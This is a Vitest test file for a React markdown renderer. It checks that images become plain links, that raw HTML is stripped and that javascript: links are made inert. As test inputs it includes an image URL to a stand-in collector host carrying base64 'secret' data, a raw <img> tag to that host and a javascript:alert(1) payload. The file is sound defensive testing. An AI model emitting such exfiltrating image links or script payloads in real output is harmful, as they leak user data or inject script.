import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import MarkdownRenderer from "./markdown-renderer";

// The renderer itself: MarkdownText only wraps it in a lazy boundary, which server rendering leaves as its fallback.
const render = (text: string) => renderToStaticMarkup(createElement(MarkdownRenderer, { text }));

describe("the markdown renderer", () => {
  it("shows an image as a link to it and never as <img> (finding 9: a URL can carry data out)", () => {
    const html = render("Look: ![secret chart](https://collector.example/p.png?d=c2VjcmV0)");
    expect(html).not.toContain("<img");
    expect(html).toContain('href="https://collector.example/p.png?d=c2VjcmV0"');
    expect(html).toContain("[image: secret chart]");
  });

  it("keeps links and drops raw HTML", () => {
    const html = render('[docs](https://example.org) <img src="https://collector.example/x.png">');
    expect(html).toContain('<a href="https://example.org" target="_blank" rel="noreferrer noopener">docs</a>');
    expect(html).not.toContain("<img");
  });

  it("makes a javascript: link inert and renders GFM tables and task lists", () => {
    const html = render("[x](javascript:alert(1))\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n- [x] done");
    expect(html).not.toContain("javascript:");
    expect(html).toContain("<table>");
    expect(html).toContain('type="checkbox"');
  });
});
